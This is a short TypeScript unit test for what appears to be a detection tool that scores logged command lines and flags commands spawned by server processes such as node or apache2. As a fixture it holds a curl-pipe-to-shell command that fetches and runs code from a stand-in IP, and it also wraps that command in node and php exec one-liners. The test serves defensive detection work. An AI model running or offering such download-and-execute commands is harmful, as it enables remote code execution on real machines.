import { expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { resolve } from "../invocations/resolve.ts";
import { judge } from "../score/judge.ts";

const reasons = (commandLine: string, parent?: string) =>
  judge(
    resolve(
      { commandLine, platform: "linux", as: "logged", ...(parent !== undefined && { parent }) },
      builtinCatalog(),
    ),
  )?.reasons.map(({ id }) => id) ?? [];

const FETCH = "sh -c 'curl http://192.0.2.7/k | sh'";

it("is a network service that a log names, not what carries out code of the line", () => {
  expect(reasons(FETCH, "/usr/bin/node")).toContain("server-parent");
  expect(reasons(FETCH, "/usr/sbin/apache2")).toContain("server-parent");
  for (const line of [`node -e "require('child_process').exec(\`${FETCH}\`)"`, `php -r "system(\\"${FETCH}\\");"`])
    expect(reasons(line, "/usr/bin/bash")).not.toContain("server-parent");
});
